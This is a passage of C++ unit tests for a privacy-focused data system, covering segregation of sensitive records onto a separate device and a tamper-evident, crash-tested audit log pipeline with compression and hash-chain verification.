                ->dbfs()
                .ReportSensitivity(sentinel::Domain::kApplication)
                .status()
                .code(),
            StatusCode::kAccessBlocked);
}


// ---- Physical sensitivity segregation -------------------------------------------------

/// Blocks containing `needle` summed over every PD shard's primary
/// medium — under RGPDOS_SHARDS the subject routes to one of N devices.
std::size_t CountPdBlocks(core::RgpdOs& os, const Bytes& needle) {
  std::size_t total = 0;
  for (std::size_t s = 0; s < os.shard_count(); ++s)
    total += blockdev::CountBlocksContaining(os.dbfs_device(s), needle);
  return total;
}

/// Same sum over every shard's sensitive (split) medium.
std::size_t CountSensitiveBlocks(core::RgpdOs& os, const Bytes& needle) {
  std::size_t total = 0;
  for (std::size_t s = 0; s < os.shard_count(); ++s)
    if (os.sensitive_device(s) != nullptr)
      total += blockdev::CountBlocksContaining(*os.sensitive_device(s), needle);
  return total;
}

TEST(SensitivitySegregationTest, HighSensitivityBytesLiveOnTheSecondDevice) {
  core::BootConfig config;
  config.use_sim_clock = true;
  config.split_sensitive = true;
  auto os = core::RgpdOs::Boot(config);
  ASSERT_TRUE(os.ok()) << os.status().ToString();
  ASSERT_NE((*os)->sensitive_device(), nullptr);
  ASSERT_TRUE((*os)
                  ->DeclareTypes(R"(
type ssn { fields { number: string }; consent { p: all };
           origin: subject; sensitivity: high; }
type nickname { fields { value: string }; consent { p: all };
                origin: subject; sensitivity: low; }
)")
                  .ok());
  auto put = [&](const char* type, const char* value) {
    auto decl = (*os)->dbfs().GetType(kDed, type);
    membrane::Membrane m = (*decl)->DefaultMembrane(1, (*os)->clock().Now());
    auto id = (*os)->dbfs().Put(kDed, 1, type,
                                db::Row{db::Value(std::string(value))},
                                std::move(m));
    ASSERT_TRUE(id.ok()) << id.status().ToString();
  };
  put("ssn", "SSN_SECRET_1234567");
  put("nickname", "NICK_PUBLIC_ish");

  // The SSN's plaintext is ONLY on the sensitive device; the nickname's
  // ONLY on the primary.
  EXPECT_EQ(CountPdBlocks(**os, ToBytes("SSN_SECRET_1234567")), 0u);
  EXPECT_GT(CountSensitiveBlocks(**os, ToBytes("SSN_SECRET_1234567")), 0u);
  EXPECT_GT(CountPdBlocks(**os, ToBytes("NICK_PUBLIC_ish")), 0u);
  EXPECT_EQ(CountSensitiveBlocks(**os, ToBytes("NICK_PUBLIC_ish")), 0u);

  // Reads, rights and erasure all work across the split transparently.
  auto ids = (*os)->dbfs().RecordsOfSubject(kDed, 1);
  ASSERT_TRUE(ids.ok());
  EXPECT_EQ(ids->size(), 2u);
  auto report = (*os)->RightOfAccess(1);
  ASSERT_TRUE(report.ok());
  EXPECT_NE(report->find("SSN_SECRET_1234567"), std::string::npos);

  ASSERT_TRUE((*os)->RightToBeForgotten(1).ok());
  EXPECT_EQ(CountSensitiveBlocks(**os, ToBytes("SSN_SECRET_1234567")), 0u);
  EXPECT_EQ(CountPdBlocks(**os, ToBytes("NICK_PUBLIC_ish")), 0u);
  // The authority can still recover the sealed SSN from the split store.
  for (dbfs::RecordId id : *ids) {
    auto envelope = (*os)->dbfs().GetEnvelope(kDed, id);
    ASSERT_TRUE(envelope.ok());
    auto recovered = (*os)->authority().Recover(*envelope);
    ASSERT_TRUE(recovered.ok());
  }
}

}  // namespace
}  // namespace rgpdos
