// Durable audit pipeline suite (DESIGN.md §14): the LZ codec, the sealed
// segment format, SegmentedLog seal/rotate/mount, the async
// DurableAuditPipeline (flush, remount chain verification, deterministic
// backpressure), the ProcessingLog corruption matrix over its segmented
// store, crash-at-every-write sweeps across segment seal/rotation, and
// regulator-export byte-stability across a remount.
#include <gtest/gtest.h>

#include <chrono>
#include <cstdint>
#include <string>
#include <thread>
#include <vector>

#include "auditlog/segment.hpp"
#include "auditlog/segmented_log.hpp"
#include "blockdev/block_device.hpp"
#include "blockdev/fault_injection.hpp"
#include "common/compress.hpp"
#include "common/clock.hpp"
#include "core/processing_log.hpp"
#include "core/regulator_export.hpp"
#include "crypto/hmac.hpp"
#include "inodefs/inode_store.hpp"
#include "sentinel/audit.hpp"
#include "sentinel/audit_pipeline.hpp"

namespace rgpdos {
namespace {

// ---- shared scaffolding ---------------------------------------------------

inodefs::InodeStore::Options SmallStoreOptions() {
  inodefs::InodeStore::Options options;
  options.inode_count = 64;
  options.journal_blocks = 64;
  return options;
}

/// A freshly formatted small store plus one caller-allocated inode for a
/// log manifest — the substrate every durable-log test starts from.
struct StoreFixture {
  SimClock clock{1000};
  blockdev::MemBlockDevice medium{512, 4096};
  std::unique_ptr<inodefs::InodeStore> store;
  inodefs::InodeId manifest = inodefs::kInvalidInode;

  StoreFixture() {
    auto formatted =
        inodefs::InodeStore::Format(&medium, SmallStoreOptions(), &clock);
    EXPECT_TRUE(formatted.ok()) << formatted.status().ToString();
    store = std::move(*formatted);
    auto id = store->AllocInode(inodefs::InodeKind::kFile);
    EXPECT_TRUE(id.ok()) << id.status().ToString();
    manifest = *id;
  }

  /// Drop the mounted store and mount the medium again — a restart.
  void Remount() {
    store.reset();
    auto mounted = inodefs::InodeStore::Mount(&medium, &clock);
    EXPECT_TRUE(mounted.ok()) << mounted.status().ToString();
    store = std::move(*mounted);
  }
};

sentinel::AuditEntry MakeAuditEntry(int i) {
  sentinel::AuditEntry entry;
  entry.at = 1000 + i;
  entry.request.subject = sentinel::Domain::kDed;
  entry.request.object =
      (i % 2 == 0) ? sentinel::Domain::kDbfs : sentinel::Domain::kOutside;
  entry.request.op =
      (i % 3 == 0) ? sentinel::Operation::kRead : sentinel::Operation::kWrite;
  entry.request.detail = "audit-" + std::to_string(i);
  entry.allowed = (i % 2 == 0);
  entry.rule = entry.allowed ? "allow ded->dbfs" : "default-deny";
  return entry;
}

/// Tiny segments so a handful of entries forces seal + rotation.
auditlog::SegmentedLogOptions TinySegments() {
  auditlog::SegmentedLogOptions options;
  options.segment_bytes = 384;
  options.compress = true;
  return options;
}

// ---- LZ codec -------------------------------------------------------------

TEST(CompressTest, CompressibleRoundTripShrinks) {
  std::string text;
  for (int i = 0; i < 200; ++i) {
    text += "processing=analytics purpose=ads subject=42 outcome=filtered ";
  }
  const ByteSpan raw(reinterpret_cast<const std::uint8_t*>(text.data()),
                     text.size());
  const Bytes packed = LzCompress(raw);
  EXPECT_LT(packed.size(), text.size() / 2);
  auto unpacked = LzDecompress(ByteSpan(packed.data(), packed.size()),
                               text.size());
  ASSERT_TRUE(unpacked.ok()) << unpacked.status().ToString();
  EXPECT_EQ(Bytes(raw.begin(), raw.end()), *unpacked);
}

TEST(CompressTest, IncompressibleRoundTripsWithBoundedExpansion) {
  Bytes raw(4096);
  std::uint64_t state = 0x9E3779B97F4A7C15ull;  // deterministic LCG bytes
  for (auto& byte : raw) {
    state = state * 6364136223846793005ull + 1442695040888963407ull;
    byte = static_cast<std::uint8_t>(state >> 56);
  }
  const Bytes packed = LzCompress(ByteSpan(raw.data(), raw.size()));
  // Worst case is ~1/128 framing overhead.
  EXPECT_LE(packed.size(), raw.size() + raw.size() / 64 + 16);
  auto unpacked =
      LzDecompress(ByteSpan(packed.data(), packed.size()), raw.size());
  ASSERT_TRUE(unpacked.ok()) << unpacked.status().ToString();
  EXPECT_EQ(raw, *unpacked);
}

TEST(CompressTest, EmptyInputRoundTrips) {
  const Bytes packed = LzCompress(ByteSpan{});
  auto unpacked = LzDecompress(ByteSpan(packed.data(), packed.size()), 0);
  ASSERT_TRUE(unpacked.ok()) << unpacked.status().ToString();
  EXPECT_TRUE(unpacked->empty());
}

TEST(CompressTest, CorruptStreamsAreRejectedNotOverread) {
  const std::string text = "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaabbbbbbbb";
  const Bytes packed = LzCompress(ByteSpan(
      reinterpret_cast<const std::uint8_t*>(text.data()), text.size()));
  // Truncated stream: literals/matches promised by tokens never arrive.
  auto truncated = LzDecompress(
      ByteSpan(packed.data(), packed.size() / 2), text.size());
  EXPECT_EQ(truncated.status().code(), StatusCode::kCorruption);
  // Wrong expected size: a stream that decodes clean but short must fail.
  auto wrong_size = LzDecompress(ByteSpan(packed.data(), packed.size()),
                                 text.size() + 1);
  EXPECT_EQ(wrong_size.status().code(), StatusCode::kCorruption);
  // A match token whose back-offset points before the output start.
  const Bytes bogus = {0x80, 0xFF, 0xFF};  // match len 4, offset 65535
  auto bad_offset = LzDecompress(ByteSpan(bogus.data(), bogus.size()), 4);
  EXPECT_EQ(bad_offset.status().code(), StatusCode::kCorruption);
}

// ---- sealed segment codec -------------------------------------------------

auditlog::SegmentInfo MakeSegmentInfo() {
  auditlog::SegmentInfo info;
  info.segment_seq = 3;
  info.first_seq = 97;
  info.entry_count = 12;
  info.chain_prev.fill(0xAB);
  info.chain_tail.fill(0xCD);
  info.raw_size = 0;  // filled per payload below
  return info;
}

TEST(SegmentCodecTest, RoundTripsCompressedAndRaw) {
  std::string payload;
  for (int i = 0; i < 64; ++i) payload += "entry entry entry ";
  const ByteSpan raw(reinterpret_cast<const std::uint8_t*>(payload.data()),
                     payload.size());
  for (const bool compress : {true, false}) {
    auditlog::SegmentInfo info = MakeSegmentInfo();
    info.raw_size = payload.size();
    const Bytes stored = auditlog::EncodeSealedSegment(info, raw, compress);
    if (compress) {
      EXPECT_LT(stored.size(), payload.size());
    }
    auditlog::SegmentInfo decoded;
    Bytes out;
    auto status = auditlog::DecodeSealedSegment(
        ByteSpan(stored.data(), stored.size()), &decoded, &out);
    ASSERT_TRUE(status.ok()) << status.ToString();
    EXPECT_EQ(decoded.segment_seq, info.segment_seq);
    EXPECT_EQ(decoded.first_seq, info.first_seq);
    EXPECT_EQ(decoded.entry_count, info.entry_count);
    EXPECT_TRUE(crypto::DigestEqual(decoded.chain_prev, info.chain_prev));
    EXPECT_TRUE(crypto::DigestEqual(decoded.chain_tail, info.chain_tail));
    EXPECT_EQ(out, Bytes(raw.begin(), raw.end()));
  }
}

TEST(SegmentCodecTest, EveryByteFlipIsDetected) {
  const std::string payload = "the quick brown fox logs a processing event";
  auditlog::SegmentInfo info = MakeSegmentInfo();
  info.raw_size = payload.size();
  const Bytes stored = auditlog::EncodeSealedSegment(
      info,
      ByteSpan(reinterpret_cast<const std::uint8_t*>(payload.data()),
               payload.size()),
      /*compress=*/true);
  for (std::size_t i = 0; i < stored.size(); ++i) {
    Bytes tampered = stored;
    tampered[i] ^= 0x01;
    auditlog::SegmentInfo decoded;
    Bytes out;
    auto status = auditlog::DecodeSealedSegment(
        ByteSpan(tampered.data(), tampered.size()), &decoded, &out);
    EXPECT_FALSE(status.ok()) << "flip at byte " << i << " went undetected";
  }
}

TEST(SegmentCodecTest, TruncationIsDetected) {
  const std::string payload = "truncate me";
  auditlog::SegmentInfo info = MakeSegmentInfo();
  info.raw_size = payload.size();
  const Bytes stored = auditlog::EncodeSealedSegment(
      info,
      ByteSpan(reinterpret_cast<const std::uint8_t*>(payload.data()),
               payload.size()),
      /*compress=*/false);
  for (const std::size_t keep : {std::size_t{0}, std::size_t{4},
                                 stored.size() / 2, stored.size() - 1}) {
    auditlog::SegmentInfo decoded;
    Bytes out;
    auto status = auditlog::DecodeSealedSegment(ByteSpan(stored.data(), keep),
                                                &decoded, &out);
    EXPECT_EQ(status.code(), StatusCode::kCorruption) << "kept " << keep;
  }
}

// ---- SegmentedLog ---------------------------------------------------------

/// Deterministic per-batch fake chain digest (the log treats the chain as
/// opaque — only cross-segment linkage is its business).
crypto::Sha256Digest FakeChain(std::uint32_t i) {
  crypto::Sha256Digest digest{};
  digest[0] = static_cast<std::uint8_t>(i);
  digest[1] = static_cast<std::uint8_t>(i >> 8);
  return digest;
}

TEST(SegmentedLogTest, SealsRotatesAndMountsBack) {
  StoreFixture fx;
  auto log = auditlog::SegmentedLog::Create(fx.store.get(), fx.manifest,
                                            TinySegments());
  ASSERT_TRUE(log.ok()) << log.status().ToString();

  Bytes everything;
  for (std::uint32_t i = 0; i < 40; ++i) {
    std::string batch = "batch-" + std::to_string(i) + "-";
    batch.append(48, static_cast<char>('a' + (i % 26)));
    const ByteSpan raw(reinterpret_cast<const std::uint8_t*>(batch.data()),
                       batch.size());
    ASSERT_TRUE((*log)->AppendBatch(raw, /*entry_count=*/2, FakeChain(i)).ok());
    everything.insert(everything.end(), raw.begin(), raw.end());
  }
  EXPECT_GE((*log)->sealed().size(), 2u) << "tiny segments never sealed";
  EXPECT_EQ((*log)->total_entries(), 80u);
  const auto sealed_count = (*log)->sealed().size();

  // Mount a second instance over the same manifest: identical stream.
  auto mounted = auditlog::SegmentedLog::Mount(fx.store.get(), fx.manifest,
                                               TinySegments());
  ASSERT_TRUE(mounted.ok()) << mounted.status().ToString();
  EXPECT_EQ((*mounted)->sealed().size(), sealed_count);
  EXPECT_EQ((*mounted)->sealed_entry_total(), (*log)->sealed_entry_total());
  auto stream = (*mounted)->RawStream();
  ASSERT_TRUE(stream.ok()) << stream.status().ToString();
  EXPECT_EQ(*stream, everything);

  // ScanRaw chunks concatenate to the same stream.
  Bytes scanned;
  ASSERT_TRUE((*mounted)
                  ->ScanRaw([&](ByteSpan chunk) {
                    scanned.insert(scanned.end(), chunk.begin(), chunk.end());
                    return Status::Ok();
                  })
                  .ok());
  EXPECT_EQ(scanned, everything);
}

TEST(SegmentedLogTest, LooksLikeManifestDistinguishesLegacyStreams) {
  StoreFixture fx;
  auto log = auditlog::SegmentedLog::Create(fx.store.get(), fx.manifest,
                                            TinySegments());
  ASSERT_TRUE(log.ok()) << log.status().ToString();
  auto manifest = fx.store->ReadAll(fx.manifest);
  ASSERT_TRUE(manifest.ok());
  EXPECT_TRUE(auditlog::SegmentedLog::LooksLikeManifest(
      ByteSpan(manifest->data(), manifest->size())));
  const Bytes flat = {0x01, 0x02, 0x03, 0x04, 0x05, 0x06, 0x07, 0x08};
  EXPECT_FALSE(auditlog::SegmentedLog::LooksLikeManifest(
      ByteSpan(flat.data(), flat.size())));
  EXPECT_FALSE(auditlog::SegmentedLog::LooksLikeManifest(ByteSpan{}));
}

/// Build a log with sealed segments + a non-empty active tail, then hand
/// the fixture to a corruption case.
void BuildSealedLog(StoreFixture& fx, std::vector<auditlog::SealedSegment>* sealed,
                    inodefs::InodeId* active) {
  auto log = auditlog::SegmentedLog::Create(fx.store.get(), fx.manifest,
                                            TinySegments());
  ASSERT_TRUE(log.ok()) << log.status().ToString();
  for (std::uint32_t i = 0; i < 24; ++i) {
    std::string batch = "payload-" + std::to_string(i) + "-";
    batch.append(40, 'x');
    ASSERT_TRUE((*log)
                    ->AppendBatch(
                        ByteSpan(reinterpret_cast<const std::uint8_t*>(
                                     batch.data()),
                                 batch.size()),
                        1, FakeChain(i))
                    .ok());
  }
  ASSERT_GE((*log)->sealed().size(), 2u);
  ASSERT_GT((*log)->active_raw_bytes(), 0u);
  *sealed = (*log)->sealed();
  *active = (*log)->active_inode();
}

TEST(SegmentedLogTest, ManifestCorruptionFailsMount) {
  StoreFixture fx;
  std::vector<auditlog::SealedSegment> sealed;
  inodefs::InodeId active = inodefs::kInvalidInode;
  BuildSealedLog(fx, &sealed, &active);

  auto manifest = fx.store->ReadAll(fx.manifest);
  ASSERT_TRUE(manifest.ok());
  Bytes tampered = *manifest;
  tampered[tampered.size() / 2] ^= 0x10;
  ASSERT_TRUE(fx.store
                  ->WriteAll(fx.manifest,
                             ByteSpan(tampered.data(), tampered.size()))
                  .ok());
  auto mounted = auditlog::SegmentedLog::Mount(fx.store.get(), fx.manifest,
                                               TinySegments());
  EXPECT_EQ(mounted.status().code(), StatusCode::kCorruption);
}

TEST(SegmentedLogTest, SealedSegmentBitFlipFailsMount) {
  StoreFixture fx;
  std::vector<auditlog::SealedSegment> sealed;
  inodefs::InodeId active = inodefs::kInvalidInode;
  BuildSealedLog(fx, &sealed, &active);

  auto segment = fx.store->ReadAll(sealed.front().inode);
  ASSERT_TRUE(segment.ok());
  Bytes tampered = *segment;
  tampered[tampered.size() - 3] ^= 0x01;  // inside the payload
  ASSERT_TRUE(fx.store
                  ->WriteAll(sealed.front().inode,
                             ByteSpan(tampered.data(), tampered.size()))
                  .ok());
  auto mounted = auditlog::SegmentedLog::Mount(fx.store.get(), fx.manifest,
                                               TinySegments());
  EXPECT_EQ(mounted.status().code(), StatusCode::kCorruption);
}

TEST(SegmentedLogTest, SealedSegmentTruncationFailsMount) {
  StoreFixture fx;
  std::vector<auditlog::SealedSegment> sealed;
  inodefs::InodeId active = inodefs::kInvalidInode;
  BuildSealedLog(fx, &sealed, &active);

  auto segment = fx.store->ReadAll(sealed.back().inode);
  ASSERT_TRUE(segment.ok());
  ASSERT_TRUE(fx.store
                  ->Truncate(sealed.back().inode, segment->size() - 3,
                             /*scrub=*/false)
                  .ok());
  auto mounted = auditlog::SegmentedLog::Mount(fx.store.get(), fx.manifest,
                                               TinySegments());
  EXPECT_EQ(mounted.status().code(), StatusCode::kCorruption);
}

// ---- DurableAuditPipeline -------------------------------------------------

sentinel::AuditPipelineOptions SmallPipelineOptions() {
  sentinel::AuditPipelineOptions options;
  options.segments = TinySegments();
  return options;
}

TEST(AuditPipelineTest, RecordsFlushAndRemountChainVerified) {
  StoreFixture fx;
  {
    auto pipeline = sentinel::DurableAuditPipeline::Create(
        fx.store.get(), fx.manifest, SmallPipelineOptions());
    ASSERT_TRUE(pipeline.ok()) << pipeline.status().ToString();
    sentinel::AuditSink sink;
    sink.AttachPipeline(pipeline->get());
    for (int i = 0; i < 200; ++i) {
      sink.Record(MakeAuditEntry(i));
    }
    auto flushed = (*pipeline)->Flush();
    ASSERT_TRUE(flushed.ok()) << flushed.ToString();
    EXPECT_EQ((*pipeline)->durable_entries(), 200u);
    EXPECT_EQ((*pipeline)->lost_entries(), 0u);
    EXPECT_EQ(sink.dropped_count(), 0u);

    auto denied = (*pipeline)->QueryDurable(
        [](const sentinel::AuditEntry& e) { return !e.allowed; });
    ASSERT_TRUE(denied.ok()) << denied.status().ToString();
    EXPECT_EQ(denied->size(), 100u);
    sink.AttachPipeline(nullptr);
  }

  // Second boot over the same manifest: the chain continues seamlessly.
  {
    auto pipeline = sentinel::DurableAuditPipeline::Create(
        fx.store.get(), fx.manifest, SmallPipelineOptions());
    ASSERT_TRUE(pipeline.ok()) << pipeline.status().ToString();
    EXPECT_EQ((*pipeline)->durable_entries(), 200u);
    for (int i = 200; i < 250; ++i) {
      EXPECT_TRUE((*pipeline)->Enqueue(MakeAuditEntry(i)));
    }
    ASSERT_TRUE((*pipeline)->Flush().ok());
  }

  // Cold remount path: decode + verify the whole chain from the store.
  auto entries =
      sentinel::DurableAuditPipeline::LoadEntries(fx.store.get(), fx.manifest);
  ASSERT_TRUE(entries.ok()) << entries.status().ToString();
  ASSERT_EQ(entries->size(), 250u);
  crypto::Sha256Digest prev{};
  for (std::size_t i = 0; i < entries->size(); ++i) {
    const auto& entry = (*entries)[i];
    EXPECT_EQ(entry.seq, i);
    EXPECT_EQ(entry.request.detail, "audit-" + std::to_string(i));
    const auto expect =
        sentinel::DurableAuditPipeline::HashEntry(entry, prev);
    EXPECT_TRUE(crypto::DigestEqual(entry.chain, expect)) << "seq " << i;
    prev = entry.chain;
  }
}

TEST(AuditPipelineTest, BackpressureTimesOutLoudlyAndCountsTheLoss) {
  StoreFixture fx;
  sentinel::AuditPipelineOptions options = SmallPipelineOptions();
  options.queue_capacity = 2;
  options.backpressure_deadline_micros = 20'000;
  auto pipeline = sentinel::DurableAuditPipeline::Create(
      fx.store.get(), fx.manifest, options);
  ASSERT_TRUE(pipeline.ok()) << pipeline.status().ToString();
  (*pipeline)->SetWriterPausedForTest(true);

  sentinel::AuditSink sink;
  sink.AttachPipeline(pipeline->get());
  EXPECT_TRUE((*pipeline)->Enqueue(MakeAuditEntry(0)));
  EXPECT_TRUE((*pipeline)->Enqueue(MakeAuditEntry(1)));
  // Queue full, writer frozen: the third Record must time out, count the
  // loss at the pipeline AND at the sink — never silently vanish.
  sink.Record(MakeAuditEntry(2));
  EXPECT_GE((*pipeline)->backpressure_timeouts(), 1u);
  EXPECT_GE((*pipeline)->lost_entries(), 1u);
  EXPECT_EQ(sink.dropped_count(), 1u);

  (*pipeline)->SetWriterPausedForTest(false);
  ASSERT_TRUE((*pipeline)->Flush().ok());
  EXPECT_EQ((*pipeline)->durable_entries(), 2u);
  sink.AttachPipeline(nullptr);
}

TEST(AuditPipelineTest, BackpressureUnblocksWhenWriterResumes) {
  StoreFixture fx;
  sentinel::AuditPipelineOptions options = SmallPipelineOptions();
  options.queue_capacity = 1;
  options.backpressure_deadline_micros = 5'000'000;
  auto pipeline = sentinel::DurableAuditPipeline::Create(
      fx.store.get(), fx.manifest, options);
  ASSERT_TRUE(pipeline.ok()) << pipeline.status().ToString();
  (*pipeline)->SetWriterPausedForTest(true);
  EXPECT_TRUE((*pipeline)->Enqueue(MakeAuditEntry(0)));  // fills the queue

  bool accepted = false;
  std::thread producer([&] {
    accepted = (*pipeline)->Enqueue(MakeAuditEntry(1));  // blocks
  });
  std::this_thread::sleep_for(std::chrono::milliseconds(50));
  (*pipeline)->SetWriterPausedForTest(false);
  producer.join();
  EXPECT_TRUE(accepted) << "producer should unblock, not time out";
  EXPECT_GE((*pipeline)->backpressure_waits(), 1u);
  EXPECT_EQ((*pipeline)->backpressure_timeouts(), 0u);
  ASSERT_TRUE((*pipeline)->Flush().ok());
  EXPECT_EQ((*pipeline)->durable_entries(), 2u);
}

TEST(AuditPipelineTest, ZeroDeadlineFailsFastWhenFull) {
  StoreFixture fx;
  sentinel::AuditPipelineOptions options = SmallPipelineOptions();
  options.queue_capacity = 1;
  options.backpressure_deadline_micros = 0;
  auto pipeline = sentinel::DurableAuditPipeline::Create(
      fx.store.get(), fx.manifest, options);
  ASSERT_TRUE(pipeline.ok()) << pipeline.status().ToString();
  (*pipeline)->SetWriterPausedForTest(true);
  EXPECT_TRUE((*pipeline)->Enqueue(MakeAuditEntry(0)));
  EXPECT_FALSE((*pipeline)->Enqueue(MakeAuditEntry(1)));
  EXPECT_GE((*pipeline)->backpressure_timeouts(), 1u);
  (*pipeline)->SetWriterPausedForTest(false);
}

// ---- ProcessingLog over the segmented store --------------------------------

void AppendLogEntries(core::ProcessingLog& log, int first, int count) {
  for (int i = first; i < first + count; ++i) {
    log.Append("proc-" + std::to_string(i % 3), "purpose-" + std::to_string(i % 2),
               /*subject=*/1 + (i % 2), /*record=*/100 + i,
               core::LogOutcome::kProcessed, "detail-" + std::to_string(i));
  }
}

TEST(ProcessingLogSegmentedTest, HotWindowTrimsButQueriesSeeFullHistory) {
  StoreFixture fx;
  core::ProcessingLog log(&fx.clock);
  ASSERT_TRUE(
      log.AttachSegmentedStore(fx.store.get(), fx.manifest, TinySegments())
          .ok());
  log.SetHotWindow(4);
  AppendLogEntries(log, 0, 20);

  EXPECT_EQ(log.entry_count(), 4u);
  EXPECT_EQ(log.total_entries(), 20u);
  EXPECT_TRUE(log.VerifyChain()) << "window chain must verify from its anchor";
  ASSERT_TRUE(log.VerifyDurableChain().ok());

  // Queries reach past the trimmed window into the sealed history.
  const auto subject1 = log.ForSubject(1);
  EXPECT_EQ(subject1.size(), 10u);
  const auto rec = log.ForRecord(100);
  ASSERT_EQ(rec.size(), 1u);
  EXPECT_EQ(rec.front().seq, 0u);

  std::uint64_t seen = 0;
  ASSERT_TRUE(log.ForEach([&](const core::LogEntry& entry) {
                   EXPECT_EQ(entry.seq, seen);
                   ++seen;
                 })
                  .ok());
  EXPECT_EQ(seen, 20u);
}

TEST(ProcessingLogSegmentedTest, ReloadContinuesChainAcrossRemount) {
  StoreFixture fx;
  {
    core::ProcessingLog log(&fx.clock);
    ASSERT_TRUE(
        log.AttachSegmentedStore(fx.store.get(), fx.manifest, TinySegments())
            .ok());
    AppendLogEntries(log, 0, 30);
  }
  fx.Remount();
  core::ProcessingLog log(&fx.clock);
  ASSERT_TRUE(
      log.LoadFromStore(fx.store.get(), fx.manifest, TinySegments()).ok());
  EXPECT_TRUE(log.segmented_durability());
  EXPECT_EQ(log.total_entries(), 30u);
  AppendLogEntries(log, 30, 10);
  EXPECT_EQ(log.total_entries(), 40u);
  ASSERT_TRUE(log.VerifyDurableChain().ok());
  std::uint64_t seen = 0;
  ASSERT_TRUE(log.ForEach([&](const core::LogEntry& entry) {
                   EXPECT_EQ(entry.seq, seen);
                   ++seen;
                 })
                  .ok());
  EXPECT_EQ(seen, 40u);
}

/// Corruption matrix over a persisted segmented log: every case builds a
/// fresh image, mutilates it one way, and must get kCorruption back —
/// never a clean load of tampered evidence.
class ProcessingLogCorruptionTest : public ::testing::Test {
 protected:
  /// Returns the active-tail inode; fills fx_ with a log that has >= 2
  /// sealed segments and a non-empty active tail.
  inodefs::InodeId Build() {
    core::ProcessingLog log(&fx_.clock);
    EXPECT_TRUE(
        log.AttachSegmentedStore(fx_.store.get(), fx_.manifest, TinySegments())
            .ok());
    AppendLogEntries(log, 0, 30);
    auto mounted = auditlog::SegmentedLog::Mount(fx_.store.get(), fx_.manifest,
                                                 TinySegments());
    EXPECT_TRUE(mounted.ok()) << mounted.status().ToString();
    EXPECT_GE((*mounted)->sealed().size(), 2u);
    EXPECT_GT((*mounted)->active_raw_bytes(), 0u);
    sealed_ = (*mounted)->sealed();
    return (*mounted)->active_inode();
  }

  Status Reload() {
    core::ProcessingLog log(&fx_.clock);
    return log.LoadFromStore(fx_.store.get(), fx_.manifest, TinySegments());
  }

  StoreFixture fx_;
  std::vector<auditlog::SealedSegment> sealed_;
};

TEST_F(ProcessingLogCorruptionTest, TailTruncationMidEntry) {
  const inodefs::InodeId active = Build();
  auto tail = fx_.store->ReadAll(active);
  ASSERT_TRUE(tail.ok());
  ASSERT_GT(tail->size(), 3u);
  // Cut inside the last entry's chain digest.
  ASSERT_TRUE(
      fx_.store->Truncate(active, tail->size() - 3, /*scrub=*/false).ok());
  EXPECT_EQ(Reload().code(), StatusCode::kCorruption);
}

TEST_F(ProcessingLogCorruptionTest, MiddleSpliceInActiveTail) {
  const inodefs::InodeId active = Build();
  auto tail = fx_.store->ReadAll(active);
  ASSERT_TRUE(tail.ok());
  ASSERT_GT(tail->size(), 24u);
  // Excise a byte run from the middle — a splice the chain must expose.
  Bytes spliced(tail->begin(), tail->begin() + 8);
  spliced.insert(spliced.end(), tail->begin() + 20, tail->end());
  ASSERT_TRUE(
      fx_.store->WriteAll(active, ByteSpan(spliced.data(), spliced.size()))
          .ok());
  EXPECT_EQ(Reload().code(), StatusCode::kCorruption);
}

TEST_F(ProcessingLogCorruptionTest, SingleBitFlipInSealedSegment) {
  Build();
  auto segment = fx_.store->ReadAll(sealed_.front().inode);
  ASSERT_TRUE(segment.ok());
  Bytes tampered = *segment;
  tampered[tampered.size() / 2] ^= 0x04;
  ASSERT_TRUE(fx_.store
                  ->WriteAll(sealed_.front().inode,
                             ByteSpan(tampered.data(), tampered.size()))
                  .ok());
  EXPECT_EQ(Reload().code(), StatusCode::kCorruption);
}

TEST_F(ProcessingLogCorruptionTest, SingleBitFlipInActiveTail) {
  const inodefs::InodeId active = Build();
  auto tail = fx_.store->ReadAll(active);
  ASSERT_TRUE(tail.ok());
  Bytes tampered = *tail;
  tampered[tampered.size() / 2] ^= 0x40;
  ASSERT_TRUE(fx_.store
                  ->WriteAll(active, ByteSpan(tampered.data(), tampered.size()))
                  .ok());
  EXPECT_EQ(Reload().code(), StatusCode::kCorruption);
}

// ---- crash-at-every-write sweep over seal/rotation -------------------------

/// One deterministic pipeline run over a fault-injecting device. The
/// medium is formatted (and seeded with a few pre-crash entries) WITHOUT
/// faults; the decorated phase then mounts, appends `kCrashEntries`
/// entries through the pipeline with a Flush barrier per entry (so the
/// write schedule is deterministic), sealing several segments along the
/// way. Returns the number of entries whose Flush succeeded.
struct CrashRunResult {
  std::uint64_t acked = 0;         ///< entries durably acked pre-crash
  std::uint64_t writes_seen = 0;   ///< device writes in the faulted phase
  bool mounted = false;            ///< workload phase reached the pipeline
};

constexpr int kSeedEntries = 4;
constexpr int kCrashEntries = 20;

CrashRunResult RunAuditCrashWorkload(blockdev::MemBlockDevice& medium,
                                     SimClock& clock,
                                     inodefs::InodeId* manifest_out,
                                     const blockdev::FaultPlan& plan) {
  // Phase 1: pristine format + seed entries, no faults.
  inodefs::InodeId manifest = inodefs::kInvalidInode;
  {
    auto store = inodefs::InodeStore::Format(&medium, SmallStoreOptions(),
                                             &clock);
    EXPECT_TRUE(store.ok()) << store.status().ToString();
    auto id = (*store)->AllocInode(inodefs::InodeKind::kFile);
    EXPECT_TRUE(id.ok());
    manifest = *id;
    auto pipeline = sentinel::DurableAuditPipeline::Create(
        store->get(), manifest, SmallPipelineOptions());
    EXPECT_TRUE(pipeline.ok()) << pipeline.status().ToString();
    for (int i = 0; i < kSeedEntries; ++i) {
      EXPECT_TRUE((*pipeline)->Enqueue(MakeAuditEntry(i)));
    }
    EXPECT_TRUE((*pipeline)->Flush().ok());
  }
  *manifest_out = manifest;

  // Phase 2: the faulted run.
  CrashRunResult result;
  blockdev::FaultInjectingBlockDevice faulty(&medium, plan);
  auto store = inodefs::InodeStore::Mount(&faulty, &clock);
  if (!store.ok()) {
    // The crash landed inside mount replay — must be kCrashed, never a
    // corruption verdict on a journaled image.
    EXPECT_EQ(store.status().code(), StatusCode::kCrashed)
        << store.status().ToString();
    result.writes_seen = faulty.fault_stats().writes_seen;
    return result;
  }
  auto pipeline = sentinel::DurableAuditPipeline::Create(
      store->get(), manifest, SmallPipelineOptions());
  if (!pipeline.ok()) {
    EXPECT_EQ(pipeline.status().code(), StatusCode::kCrashed)
        << pipeline.status().ToString();
    result.writes_seen = faulty.fault_stats().writes_seen;
    return result;
  }
  result.mounted = true;
  result.acked = kSeedEntries;
  for (int i = 0; i < kCrashEntries; ++i) {
    if (!(*pipeline)->Enqueue(MakeAuditEntry(kSeedEntries + i))) break;
